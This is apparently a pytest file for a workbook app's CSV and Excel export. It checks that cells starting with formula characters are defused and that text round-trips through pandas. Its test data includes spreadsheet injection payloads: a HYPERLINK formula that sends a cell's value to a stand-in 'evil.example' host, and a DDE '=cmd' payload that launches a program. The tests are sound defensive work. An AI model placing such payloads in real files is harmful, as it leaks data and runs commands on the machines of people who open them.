"""CSV and Excel tables: every table written, formulas defused, and a faithful pandas round trip."""

from __future__ import annotations

import datetime as dt

import pandas as pd
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from workbook import (
    ActionItem,
    HealthCheck,
    Meeting,
    Organisation,
    Outcome,
    Person,
    Reading,
    Resource,
    Win,
)
from workbook.export.tables import (
    FORMULA_STARTS,
    collect_tables,
    export_tables,
    guard,
    unguard,
)
from workbook.store.schema import table_for
from workbook.testing import add_action, add_meeting, add_organisation, add_person, add_resource

TABLES = ("organisations", "people", "meetings", "attendance", "resources", "problem_tree",
          "solutions", "actions", "health_checks", "outcomes", "readings", "wins")
TRICKY = [
    "=1+2", "+SUM(A1:A9)", "-2+3", "@cmd", "\tindented", "\rcarriage", "'quoted already",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "Plain, with a comma", 'Say "hi"',
    "Line one\nLine two", "Zoë ✓ 👩🏽‍🔧", "  spaced  ", "0042", "1e5", "TRUE", "NaN", "",
]


def read_csv(path):
    frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    return frame.map(unguard)


@pytest.fixture
def tricky_wb(wb):
    """A workbook whose text fields hold formula starters and other awkward values."""
    org_ids = []
    for index, text in enumerate(TRICKY):
        org = wb.add(Organisation(name=f"Org {index}", mission=text, needs=text))
        org_ids.append(org.id)
    meeting = add_meeting(wb, decisions=("=cmd|' /C calc'!A0", "Second decision"),
                          notes="-10 people came")
    person = add_person(wb, org_ids[0], role="@boss")
    add_action(wb, action="=2*3", owner_id=person.id, meeting_id=meeting.id,
               due_on=dt.date.today() - dt.timedelta(days=3))
    add_resource(wb, name="+Resource", target_group="Line one\nLine two")
    wb.add(HealthCheck(organisation_id=org_ids[1], checked_on=dt.date.today(), services=2,
                       goals=1, notes="=NOW()"))
    outcome = wb.add(Outcome(description="=Retention", unit="%", target_value=75))
    wb.add(Reading(outcome_id=outcome.id, read_on="2026-01-31", value=61.5,
                   source="-payroll", note="@note"))
    wb.add(Reading(outcome_id=outcome.id, read_on="2026-02-28", text="+counting"))
    wb.add_win(Win(won_on="2026-02-01", description="=hired"), [org_ids[2]])
    return wb


def test_guard_defuses_every_formula_start_and_is_reversible():
    """Each formula starter gets one apostrophe; unguard restores the exact text."""
    for start in FORMULA_STARTS:
        assert guard(f"{start}x") == f"'{start}x"
    assert guard("'already") == "''already"
    assert guard("plain") == "plain" and guard(42) == 42 and guard(None) is None
    for text in TRICKY:
        assert unguard(guard(text)) == text


def test_export_tables_writes_each_csv_and_one_excel(tricky_wb, tmp_path):
    """Every table becomes a CSV and a sheet of tables.xlsx, with the same columns."""
    folder = export_tables(tricky_wb, tmp_path, readable=False)
    assert folder.parent.parent == tmp_path and folder.name.startswith("tables-")
    assert sorted(p.stem for p in folder.glob("*.csv")) == sorted(TABLES)
    book = load_workbook(folder / "tables.xlsx", read_only=True)
    assert book.sheetnames == list(TABLES)
    for table in collect_tables(tricky_wb):
        header = next(book[table.name].iter_rows(max_row=1, values_only=True))
        assert tuple(header) == table.columns
        assert tuple(pd.read_csv(folder / f"{table.name}.csv", nrows=0,
                                 encoding="utf-8-sig").columns) == table.columns


def test_no_cell_starts_with_a_formula_character(tricky_wb, tmp_path):
    """Neither the CSV text nor any Excel cell begins with = + - @ tab or CR; no formulas."""
    folder = export_tables(tricky_wb, tmp_path)
    for path in folder.glob("*.csv"):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        for value in frame.to_numpy().ravel():
            assert not value.startswith(FORMULA_STARTS), (path.name, value)
    book = load_workbook(folder / "tables.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS)


def test_csv_round_trip_into_pandas_preserves_text_exactly(tricky_wb, tmp_path):
    """Read back with dtype=str and unguard, every text value equals the stored one."""
    folder = export_tables(tricky_wb, tmp_path, readable=False)
    orgs = read_csv(folder / "organisations.csv").set_index("id")
    for org in tricky_wb.all(Organisation):
        row = orgs.loc[str(org.id)]
        assert row["mission"] == org.mission and row["needs"] == org.needs
        assert row["name"] == org.name
    meetings = read_csv(folder / "meetings.csv")
    meeting = tricky_wb.all(Meeting)[0]
    assert meetings.loc[0, "decisions"].split("\n") == [
        d.text for d in tricky_wb.decisions(meeting.id)]
    assert meetings.loc[0, "notes"] == meeting.notes
    assert meetings.loc[0, "held_on"] == meeting.held_on.isoformat()
    people = read_csv(folder / "people.csv")
    assert people.loc[0, "role"] == tricky_wb.all(Person)[0].role


def test_csv_round_trip_keeps_numbers_dates_and_flags(tricky_wb, tmp_path):
    """Read with default types, ids stay integers, flags booleans, dates ISO text."""
    folder = export_tables(tricky_wb, tmp_path, readable=False)
    actions = pd.read_csv(folder / "actions.csv", encoding="utf-8-sig")
    stored = tricky_wb.all(ActionItem)[0]
    assert actions["id"].tolist() == [stored.id]
    assert actions.loc[0, "overdue"] is True or actions.loc[0, "overdue"] == True  # noqa: E712
    assert actions.loc[0, "due_on"] == stored.due_on.isoformat()
    checks = pd.read_csv(folder / "health_checks.csv", encoding="utf-8-sig")
    check = tricky_wb.all(HealthCheck)[0]
    assert checks.loc[0, "score"] == check.score and checks.loc[0, "services"] == 2
    assert unguard(checks.loc[0, "notes"]) == "=NOW()"


def test_excel_round_trip_into_pandas(tricky_wb, tmp_path):
    """Excel sheets read by pandas give the stored text (unguarded), ints and real dates.

    Line ends are compared folded: depending on the reader's version, xlsx gives a carriage
    return back as itself or as a line feed."""
    folder = export_tables(tricky_wb, tmp_path, readable=False)
    sheets = pd.read_excel(folder / "tables.xlsx", sheet_name=None, keep_default_na=False)
    orgs = sheets["organisations"].set_index("id")
    for org in tricky_wb.all(Organisation):
        expected = org.mission.replace("\r\n", "\n").replace("\r", "\n")
        got = unguard(orgs.loc[org.id, "mission"])
        assert got.replace("\r\n", "\n").replace("\r", "\n") == expected
    actions = sheets["actions"]
    stored = tricky_wb.all(ActionItem)[0]
    assert actions.loc[0, "due_on"].date() == stored.due_on
    assert unguard(actions.loc[0, "action"]) == stored.action == "=2*3"
    resources = sheets["resources"]
    resource = tricky_wb.all(Resource)[0]
    assert unguard(resources.loc[0, "name"]) == resource.name
    assert resources.loc[0, "target_group"] == resource.target_group


def test_problem_tree_rows_follow_the_outline(wb):
    """Causes come in outline order with their depth; a problem without causes still shows."""
    from workbook.testing import add_problem_tree

    tree = add_problem_tree(wb, depth=3, branches=2)
    lonely = add_problem_tree(wb, depth=0)
    table = next(t for t in collect_tables(wb) if t.name == "problem_tree")
    rows = [dict(zip(table.columns, r, strict=True)) for r in table.rows]
    mine = [r for r in rows if r["problem_id"] == tree.problem.id]
    assert [r["depth"] for r in mine] == [1, 2, 3, 1, 2, 3]
    assert [r["is_root"] for r in mine] == [False, False, True] * 2
    assert [r["cause_id"] for r in rows if r["problem_id"] == lonely.problem.id] == [None]


def test_actions_table_names_owner_and_partner(wb):
    """Ids are joined to names so the table reads without a lookup."""
    org = add_organisation(wb, name="Millrace")
    owner = add_person(wb, org, name="Ray")
    add_action(wb, owner_id=owner.id)
    table = next(t for t in collect_tables(wb) if t.name == "actions")
    row = dict(zip(table.columns, table.rows[0], strict=True))
    assert (row["owner"], row["organisation"]) == ("Ray", "Millrace")


def test_readings_table_keeps_values_units_and_words(tricky_wb, tmp_path):
    """Readings come out oldest first, numbers as numbers, with the outcome and its unit."""
    folder = export_tables(tricky_wb, tmp_path, readable=False)
    readings = pd.read_csv(folder / "readings.csv", encoding="utf-8-sig",
                           keep_default_na=False)
    assert list(readings["read_on"]) == ["2026-01-31", "2026-02-28"]
    assert list(readings["value"]) == ["61.5", ""]  # an empty cell for a reading in words
    assert list(readings["unit"]) == ["%", "%"]
    assert unguard(readings["outcome"].iloc[0]) == "=Retention"
    assert unguard(readings["text"].iloc[1]) == "+counting"
    sheets = pd.read_excel(folder / "tables.xlsx", sheet_name=None, keep_default_na=False)
    assert sheets["readings"]["value"].iloc[0] == 61.5


def test_wins_table_names_a_person_only_with_consent(wb):
    """The person column is filled only for wins whose consent to be named is recorded."""
    org = add_organisation(wb, name="Millrace")
    wb.add_win(Win(won_on="2026-02-01", description="Hired", person_name="Dana",
                   consent_on="2026-02-02"), [org.id])
    other = wb.add(Win(won_on="2026-03-01", description="Hired too"))
    with wb._write() as conn:  # a name without consent, as a hand-edited file might hold
        conn.execute(sa.update(table_for(Win)).where(table_for(Win).c.id == other.id)
                     .values(person_name="Secret Person"))
    table = next(t for t in collect_tables(wb) if t.name == "wins")
    rows = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
    assert [(r["person"], r["partners"]) for r in rows] == [("Dana", "Millrace"), ("", "")]


# -- the readable form (the default, and the meeting packet's) --------------------------


def test_readable_tables_have_worded_headers_names_and_widths(tricky_wb, tmp_path):
    """A sheet per subject, headers in words, no id column, choice keys spelt out, set
    widths; the CSV files carry the same headers."""
    org = add_organisation(tricky_wb, name="Millrace Stainless")
    owner = add_person(tricky_wb, org, name="Ray Calloway")
    add_action(tricky_wb, action="Confirm the booths", owner_id=owner.id,
               due_on=dt.date(2027, 1, 15), status="in_progress")
    folder = export_tables(tricky_wb, tmp_path)
    book = load_workbook(folder / "tables.xlsx")
    assert book.sheetnames[:3] == ["Organizations", "People", "Meetings"]
    assert "Actions" in book.sheetnames and "Health checks" in book.sheetnames
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        for title in header:
            assert title and "_" not in title and title != "id", (sheet.title, title)
            assert not title.lower().endswith(" id"), (sheet.title, title)
        assert sheet.freeze_panes == "A2"
        assert all(sheet.column_dimensions[c.column_letter].width >= 8 for c in sheet[1])
    actions = book["Actions"]
    header = [c.value for c in actions[1]]
    assert {"Action", "Organization", "Owner", "Due date", "Status"} <= set(header)
    rows = [dict(zip(header, (c.value for c in r), strict=True))
            for r in actions.iter_rows(min_row=2)]
    mine = next(r for r in rows if r["Action"] == "Confirm the booths")
    assert (mine["Owner"], mine["Organization"]) == ("Ray Calloway", "Millrace Stainless")
    assert mine["Status"] == "Under way" and mine["Overdue"] == "No"
    assert mine["Due date"].date() == dt.date(2027, 1, 15)
    width = actions.column_dimensions[
        actions.cell(1, header.index("Action") + 1).column_letter].width
    assert width >= len("Confirm the booths")
    frame = read_csv(folder / "actions.csv")
    assert list(frame.columns) == header


def test_readable_tables_still_defuse_formulas(tricky_wb, tmp_path):
    """Typed text that a spreadsheet could run stays text in the readable sheets."""
    folder = export_tables(tricky_wb, tmp_path)
    book = load_workbook(folder / "tables.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2, values_only=True):
            for value in row:
                if isinstance(value, str):
                    assert not value.startswith(FORMULA_STARTS), (sheet.title, value)
